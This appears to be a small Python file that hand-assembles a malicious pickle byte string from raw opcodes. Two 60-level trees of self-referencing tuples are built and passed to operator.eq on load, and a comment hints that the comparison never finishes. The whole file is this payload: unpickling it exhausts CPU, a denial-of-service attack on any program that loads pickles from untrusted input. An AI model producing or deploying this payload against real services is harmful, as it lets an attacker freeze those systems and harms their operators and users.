def tree(first):
    pairs = (bytes([0x68, n, 0x68, n, 0x86, 0x71, n + 1, 0x30]) for n in range(first, first + 60))
    return bytes([0x5D, 0x71, first, 0x30]) + b"".join(pairs)  # a list; twice what was last, kept, and so on


PICKLE = b"\x80\x02" + tree(0) + tree(100) + b"coperator\neq\nh\x3ch\xa0\x86R."  # equal, but who has the time
